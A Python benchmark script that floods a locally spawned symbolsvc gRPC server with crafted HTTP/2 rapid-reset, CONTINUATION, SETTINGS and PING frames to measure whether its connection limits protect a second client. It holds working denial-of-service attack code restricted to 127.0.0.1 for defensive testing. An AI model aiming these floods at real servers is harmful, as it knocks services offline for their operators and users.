"""HTTP/2 abuse against a real symbolsvc server, with and without its connection limits.

``python -m bench.h2abuse --deployment DIR [--seconds 20] [--attacks rapid-reset,...]``

For each setting (``off``: grpc's own defaults, as before server_options.py; ``on``: the
shipped limits; ``guard``: those plus ``max_rss_mib = 150``, served by ``--workers 2`` so
a worker past the bound is restarted while the other serves) the bench starts
``symbolsvc serve`` on a copy of DIR, measures a second principal's IssueSymbol latency
with no attack, then replays each attack for ``--seconds`` from an attacker holding a
valid certificate (agency ``tax-office``) over mutual TLS on 127.0.0.1 only, while the
victim (``city-chiyoda``, its own connection, in another process than the attacker)
keeps calling. It samples the server's RSS (all its processes) and CPU throughout and
prints a Markdown table (the figures in docs/BENCHMARKS.md come from it).

Attacks (frames crafted with the ``h2`` library, or raw where h2 refuses to misbehave):

* ``rapid-reset`` — HEADERS for a real method then RST_STREAM(CANCEL), as fast as possible
  (CVE-2023-44487);
* ``continuation`` — a HEADERS frame without END_HEADERS, then CONTINUATION frames of
  16 KiB of header bytes that never end (the 2024 CONTINUATION flood);
* ``settings`` — SETTINGS frames, never waiting for acknowledgements;
* ``ping`` — PING frames.

Each attacker connection that the server closes is re-opened at once; the table counts
the re-connections ("closed").
"""

from __future__ import annotations

import argparse
import multiprocessing
import shutil
import socket
import ssl
import struct
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.exceptions
import hpack

from bench.plan import nth_number
from bench.servers import Spawned, spawn_service

ATTACKS = ("rapid-reset", "continuation", "settings", "ping")
OFF = {  # grpc's defaults: what the server ran with before server_options.py
    "max_concurrent_streams": 2**31 - 1,
    "max_header_list_bytes": 16_384,
    "min_ping_interval_ms": 300_000,
    "max_connection_age_ms": 2**31 - 1,
    "handshake_timeout_ms": 120_000,
}
GUARD = {"max_rss_mib": 150}  # "guard": the shipped limits plus a memory bound (memguard.py)
ATTACKER, VICTIM = "tax-office", "city-chiyoda"
METHOD = "/symbolsvc.v1.SymbolService/IssueSymbol"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


class Attacker:
    """One attacking connection on its own thread; re-connects when the server closes it."""

    def __init__(self, deployment: Path, address: str, attack: str) -> None:
        pki = deployment / "pki"
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.ctx.load_verify_locations(pki / "ca.crt")
        self.ctx.load_cert_chain(pki / f"{ATTACKER}.crt", pki / f"{ATTACKER}.key")
        self.ctx.check_hostname = False  # the chain is still verified
        self.ctx.set_alpn_protocols(["h2"])
        host, _, port = address.rpartition(":")
        assert host in ("127.0.0.1", "localhost"), "traffic to 127.0.0.1 only"
        self.addr = (host, int(port))
        self.attack = attack
        self.frames = 0
        self.closed = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _connect(self) -> tuple[ssl.SSLSocket, h2.connection.H2Connection]:
        raw = socket.create_connection(self.addr, timeout=10)
        sock = self.ctx.wrap_socket(raw, server_hostname="localhost")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.0)
        return sock, conn

    def _drain(self, sock: ssl.SSLSocket) -> bool:
        """Read what the server sent (never parsed: the attacker does not care); False
        once the server closed the connection."""
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    return False
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False

    def _batch(self, conn: h2.connection.H2Connection) -> bytes:
        if self.attack == "rapid-reset":
            headers = [(":method", "POST"), (":scheme", "https"), (":path", METHOD),
                       (":authority", "localhost"), ("content-type", "application/grpc"),
                       ("te", "trailers")]
            out = bytearray()
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.reset_stream(sid, error_code=8)  # CANCEL
                out += conn.data_to_send()
            self.frames += 100
            return bytes(out)
        if self.attack == "continuation":
            if not hasattr(self, "_block"):
                enc = hpack.Encoder()
                block = enc.encode([(f"x-junk-{i}", "a" * 200) for i in range(80)])
                self._block = block[:16_000]
            self.frames += 16
            return b"".join(_frame(0x9, 0, self._sid, self._block) for _ in range(16))
        if self.attack == "settings":
            self.frames += 200
            return _frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) * 200
        self.frames += 200  # ping
        return b"".join(_frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(200))

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                sock, conn = self._connect()
            except OSError:
                self.closed += 1
                time.sleep(0.05)
                continue
            if self.attack == "continuation":
                self._sid = conn.get_next_available_stream_id()
                enc = hpack.Encoder()
                first = enc.encode([(":method", "POST"), (":scheme", "https"),
                                    (":path", METHOD), (":authority", "localhost")])
                sock.settimeout(10)
                sock.sendall(_frame(0x1, 0x0, self._sid, first))  # no END_HEADERS
                sock.settimeout(0.0)
            try:
                while not self.stop.is_set():
                    data = self._batch(conn)
                    sock.settimeout(5)
                    sock.sendall(data)
                    sock.settimeout(0.0)
                    if not self._drain(sock):
                        break
            except (OSError, ValueError, h2.exceptions.H2Error):
                pass
            if not self.stop.is_set():
                self.closed += 1  # the server closed it (GOAWAY or reset)
            try:
                sock.close()
            except OSError:
                pass


@dataclass
class Victim:
    """The other principal: IssueSymbol calls in a loop on its own connection."""

    deployment: Path
    address: str
    latencies: list[float] = field(default_factory=list)
    errors: dict[str, int] = field(default_factory=dict)
    stop: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        from symbolsvc_client import CallError, Deployment

        client = Deployment(self.deployment).agency(VICTIM, self.address)
        client.timeout = 10
        numbers = [nth_number(9_000_000 + i) for i in range(50)]
        i = 0
        while not self.stop.is_set():
            t0 = time.perf_counter()
            try:
                client.issue(numbers[i % len(numbers)])
                self.latencies.append(time.perf_counter() - t0)
            except CallError as exc:
                self.errors[exc.code.name] = self.errors.get(exc.code.name, 0) + 1
            i += 1


def _pct(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    s = sorted(values)
    return s[min(len(s) - 1, int(q * len(s)))] * 1000


def _attack_process(deployment: Path, address: str, attack: str, connections: int,
                    stop: Any, out: Any) -> None:
    """The attacker's own process, so that it competes with the victim only for CPU (as a
    remote attacker would through the server), never for the victim's GIL."""
    attackers = [Attacker(deployment, address, attack) for _ in range(connections)]
    for a in attackers:
        a.thread.start()
    stop.wait()
    for a in attackers:
        a.stop.set()
    for a in attackers:
        a.thread.join(15)
    out.put((sum(a.frames for a in attackers), sum(a.closed for a in attackers)))


def measure(deployment: Path, server: Spawned, attack: str | None, seconds: float,
            connections: int) -> dict[str, object]:
    ctx = multiprocessing.get_context("spawn")
    victim = Victim(deployment, server.address)
    vt = threading.Thread(target=victim.run, daemon=True)
    stop, out = ctx.Event(), ctx.Queue()
    proc = ctx.Process(target=_attack_process,
                       args=(deployment, server.address, attack, connections, stop, out)) \
        if attack else None
    rss0, cpu0 = server.rss_mb(), server.cpu_seconds()
    peak = rss0
    vt.start()
    if proc is not None:
        proc.start()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.25)
        peak = max(peak, server.rss_mb())
    stop.set()
    victim.stop.set()
    vt.join(15)
    frames = closed = 0
    if proc is not None:
        frames, closed = out.get(timeout=60)
        proc.join(30)
    cpu = (server.cpu_seconds() - cpu0) / seconds * 100
    time.sleep(2)
    return {
        "attack": attack or "none", "frames": frames, "closed": closed,
        "calls": len(victim.latencies),
        "errors": dict(victim.errors), "p50_ms": round(_pct(victim.latencies, 0.5), 1),
        "p99_ms": round(_pct(victim.latencies, 0.99), 1),
        "max_ms": round(max(victim.latencies, default=0) * 1000, 1),
        "rss_start_mb": rss0, "rss_peak_mb": peak, "rss_after_mb": server.rss_mb(),
        "cpu_pct": round(cpu), "server_alive": server.proc.poll() is None,
    }


def _deployment_copy(src: Path, work: Path, limits: str) -> Path:
    dst = work / f"dep-{limits}"
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns("data", "logs"))
    (dst / "data").mkdir(exist_ok=True)
    (dst / "logs").mkdir(exist_ok=True)
    extra = OFF if limits == "off" else GUARD if limits == "guard" else {}
    if extra:
        text = (dst / "config.toml").read_text()
        lines = "\n".join(f"{k} = {v}" for k, v in extra.items())
        text = text.replace("[server]\n", f"[server]\n{lines}\n", 1)
        (dst / "config.toml").write_text(text)
    return dst


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--deployment", required=True, type=Path,
                   help="a SQLite deployment written by `symbolsvc init` (copied, not served)")
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--connections", type=int, default=2)
    p.add_argument("--attacks", default=",".join(ATTACKS))
    p.add_argument("--limits", default="off,on")
    args = p.parse_args()
    rows = []
    with tempfile.TemporaryDirectory(prefix="h2abuse-") as tmp:
        for limits in args.limits.split(","):
            dep = _deployment_copy(args.deployment, Path(tmp), limits)
            for attack in [None, *args.attacks.split(",")]:
                # A fresh server per attack: memory from zero.
                server = spawn_service(dep, 2 if limits == "guard" else 1)
                try:
                    measure(dep, server, None, 2, 0)  # warm-up
                    row = measure(dep, server, attack, args.seconds, args.connections)
                finally:
                    server.stop()
                row["limits"] = limits
                rows.append(row)
                print(row, flush=True)
    print("\n| limits | attack | attacker frames | conns closed | victim calls | errors | "
          "p50 ms | p99 ms | max ms | RSS start/peak/after MiB | server CPU % |")
    print("|---|---|---|---|---|---|---|---|---|---|---|")
    for r in rows:
        print(f"| {r['limits']} | {r['attack']} | {r['frames']:,} | {r['closed']:,} | "
              f"{r['calls']:,} | {r['errors'] or '-'} | {r['p50_ms']} | {r['p99_ms']} | "
              f"{r['max_ms']} | {r['rss_start_mb']}/{r['rss_peak_mb']}/{r['rss_after_mb']} | "
              f"{r['cpu_pct']} |")


if __name__ == "__main__":
    main()
